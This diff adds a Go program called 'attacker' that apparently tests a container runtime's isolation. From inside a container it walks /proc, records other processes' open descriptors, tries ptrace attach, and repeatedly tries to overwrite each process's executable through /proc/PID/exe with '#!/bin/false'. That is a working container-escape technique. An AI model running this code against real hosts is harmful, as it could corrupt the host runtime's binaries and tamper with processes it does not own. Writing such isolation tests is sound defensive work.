@@ -1,0 +1,134 @@
+// Command attacker runs in a container and attacks the processes of the runtime that it meets there. It ends on SIGTERM and
+// prints as JSON what it reached.
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/signal"
+	"runtime"
+	"slices"
+	"strconv"
+	"strings"
+
+	"golang.org/x/sys/unix"
+)
+
+// Report is what an attack reached.
+type Report struct {
+	Met        []string // programs of other processes, as /proc/PID/exe names them
+	Attached   []string // programs of processes that ptrace(2) could attach to
+	Opened     []string // what descriptors of other processes are
+	Written    []string // programs that could be opened for writing
+	WriteError []string // why others could not
+}
+
+func main() {
+	runtime.LockOSThread() // a tracer is a thread
+	ended := make(chan os.Signal, 1)
+	signal.Notify(ended, unix.SIGTERM)
+	attack := map[string]func(*Report, int){"ptrace": attach, "overwrite": overwrite}[os.Args[1]]
+	if attack == nil {
+		fmt.Fprintln(os.Stderr, "usage: attacker ptrace|overwrite")
+		os.Exit(2)
+	}
+	r := &Report{}
+	fmt.Fprintln(os.Stderr, "attacking")
+	for {
+		select {
+		case <-ended:
+			_ = json.NewEncoder(os.Stdout).Encode(r)
+			return
+		default:
+			for _, pid := range others() {
+				attack(r, pid)
+			}
+		}
+	}
+}
+
+func others() []int {
+	dir, err := os.Open("/proc")
+	if err != nil {
+		return nil
+	}
+	defer dir.Close()
+	names, _ := dir.Readdirnames(-1)
+	var pids []int
+	for _, name := range names {
+		if pid, err := strconv.Atoi(name); err == nil && pid != os.Getpid() {
+			pids = append(pids, pid)
+		}
+	}
+	return pids
+}
+
+func remember(list *[]string, what string) {
+	if len(*list) < 1000 && !slices.Contains(*list, what) {
+		*list = append(*list, what)
+	}
+}
+
+// attach looks at the descriptors of a process and attaches to it. The program is read while the process is stopped.
+func attach(r *Report, pid int) {
+	proc := fmt.Sprintf("/proc/%d/", pid)
+	fds, _ := os.ReadDir(proc + "fd")
+	for _, fd := range fds {
+		if target, err := os.Readlink(proc + "fd/" + fd.Name()); err == nil {
+			exe, _ := os.Readlink(proc + "exe")
+			remember(&r.Opened, kindOf(target)+" of "+exe)
+		}
+	}
+	if unix.PtraceAttach(pid) != nil {
+		return
+	}
+	var ws unix.WaitStatus
+	for {
+		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != unix.EINTR {
+			break
+		}
+	}
+	exe, _ := os.Readlink(proc + "exe")
+	remember(&r.Attached, exe)
+	_ = unix.PtraceDetach(pid)
+}
+
+// kindOf drops the number of pipes, sockets and the like.
+func kindOf(target string) string {
+	kind, _, numbered := strings.Cut(target, ":[")
+	if numbered {
+		return kind
+	}
+	return target
+}
+
+// overwrite takes hold of the program of a process and tries to write to it for as long as that makes sense: it is busy
+// (ETXTBSY) only until the process ends.
+func overwrite(r *Report, pid int) {
+	exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
+	if err != nil || strings.HasPrefix(exe, "/bin/") {
+		return
+	}
+	remember(&r.Met, exe)
+	handle, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return
+	}
+	defer unix.Close(handle)
+	for range 2000 {
+		fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", handle), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		if err == nil {
+			_, err = unix.Pwrite(fd, []byte("#!/bin/false\n"), 0)
+			unix.Close(fd)
+		}
+		if err == nil {
+			remember(&r.Written, exe)
+			return
+		}
+		remember(&r.WriteError, err.Error())
+		if err != unix.ETXTBSY {
+			return
+		}
+	}
+}
